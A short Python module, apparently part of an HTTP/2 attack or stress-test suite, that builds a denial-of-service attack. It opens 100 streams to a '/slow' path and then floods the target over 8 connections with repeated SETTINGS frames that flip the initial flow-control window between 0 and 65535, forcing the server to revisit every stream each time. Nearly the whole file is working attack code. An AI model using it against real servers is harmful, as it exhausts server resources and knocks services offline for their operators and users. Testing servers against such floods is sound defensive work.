"""SETTINGS that keep changing the window of 100 open streams: each makes the server visit
all of them."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()
STREAMS = range(1, 200, 2)


async def run(target):
    asked = b"".join(frames.request(stream, frames.head(b"/slow")) for stream in STREAMS)
    batch = b"".join(frames.settings({frames.INITIAL_WINDOW: size}) for size in (0, 65_535)) * 300
    return await target.flood(8, frames.opening() + asked, lambda: repeat(batch))
